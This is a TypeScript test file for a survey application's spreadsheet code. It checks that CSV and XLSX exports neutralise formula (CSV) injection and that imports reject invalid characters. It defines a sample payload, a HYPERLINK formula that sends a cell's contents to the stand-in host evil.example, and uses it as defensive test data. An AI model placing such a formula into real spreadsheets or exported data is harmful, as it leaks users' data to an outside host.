import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { exportCsv, exportXlsx, readTable } from "#src/features/surveys/spreadsheet.ts";
import { adoptionTemplate } from "#src/features/surveys/templates.ts";
import { isAppError } from "#src/lib/errors.ts";

// Answers are written by members and opened by the secretariat in a spreadsheet: none may run as a
// formula there (OWASP CSV injection), and text no form would take is not taken from a file either.

const def = adoptionTemplate(["blockchain"]);
const ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const rows = [{ organization: "@Customs", answers: { comments: ATTACK, contact: "+33 1 23", innovation_staff: -2 } }];

describe("survey spreadsheets", () => {
  it("responses.csv neutralizes formulas, and reads back as written", async () => {
    const csv = exportCsv(def, rows).toString("utf8");
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csv).toContain("'@Customs");
    expect(csv).toContain("'+33 1 23");
    expect(csv).not.toMatch(/(^|,)[=+@]/m);
    const table = await readTable(Buffer.from(csv, "utf8"));
    expect(table.rows[0]!.cells).toMatchObject({ organization: "@Customs", comments: ATTACK, contact: "+33 1 23" });
  });

  it("responses.xlsx holds every answer as a value, never a formula", async () => {
    const xlsx = await exportXlsx(def, rows);
    const sheetXml = strFromU8(unzipSync(new Uint8Array(xlsx))["xl/worksheets/sheet1.xml"]!);
    expect(sheetXml).not.toContain("<f>");
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx as unknown as ExcelJS.Buffer);
    const sheet = book.getWorksheet("responses")!;
    const values = (sheet.getRow(2).values as ExcelJS.CellValue[]).slice(1);
    expect(values).toContain(ATTACK);
    sheet.getRow(2).eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
  });

  it("refuses a file whose text holds characters a form would refuse", async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet("responses");
    sheet.addRow(["organization", "comments"]);
    // (ExcelJS drops control characters when it writes; a noncharacter goes through.)
    sheet.addRow(["Customs", "x\ufdd0"]);
    const error = await readTable(Buffer.from(await book.xlsx.writeBuffer())).catch((e: unknown) => e);
    expect(isAppError(error) && error.code).toBe("INVALID_CHARACTERS");
    const csvError = await readTable(Buffer.from("organization,comments\r\nCustoms,bell\u0007\r\n", "utf8")).catch((e: unknown) => e);
    expect(isAppError(csvError) && csvError.code).toBe("INVALID_CHARACTERS");
  });
});
